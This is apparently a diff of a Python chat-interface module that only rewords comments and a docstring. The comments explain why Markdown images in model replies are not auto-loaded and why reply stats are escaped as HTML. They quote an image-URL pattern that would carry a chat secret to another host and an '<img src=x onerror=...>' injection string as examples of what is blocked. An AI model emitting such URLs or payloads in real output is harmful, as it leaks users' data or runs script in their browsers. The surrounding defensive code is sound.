@@ -228,8 +228,8 @@ def _mark_span(text: str) -> str:
 
 
 # An image in a message is not loaded: a model's reply (or a pasted text) could name a URL that
-# carries what the chat says to another host ("![x](http://host/p.png?secret=PIN)" was fetched as
-# soon as the chat opened; issue 41, item 6). A Markdown image shows as a link to it, "🖼 x · image
+# carries what the chat says to another host ("![x](http://host/p.png?secret=PIN)" would be
+# fetched as soon as the chat opens). A Markdown image shows as a link to it, "🖼 x · image
 # from host — click to open", which a click opens; its alt text sits between two IMAGE_MARKs
 # (invisible), so that ``typed_text`` turns the link back into the image as typed (Copy, ✎). Any
 # other "![" (a reference image, one this pattern does not read) gets a MARK after its "!": no
@@ -314,7 +314,7 @@ def split_thinking(text: str) -> list[tuple[str, bool, bool]]:
 def shown_stats(stats: MessageStats) -> MessageStats:
     """A reply's stats with their text escaped for the line under it (Markdown, which passes HTML
     on): ``stopped_by`` is ours ("switch to <model>") or, in an imported chat, the file's, like its
-    ``model`` (issue 41, item 7: "<img src=x onerror=...>**bold**" was rendered as HTML there)."""
+    ``model`` ("<img src=x onerror=...>**bold**" there must show as typed, not as HTML)."""
     return replace(stats, stopped_by=markdown_literal(stats.stopped_by)) if stats.stopped_by else stats
 
 
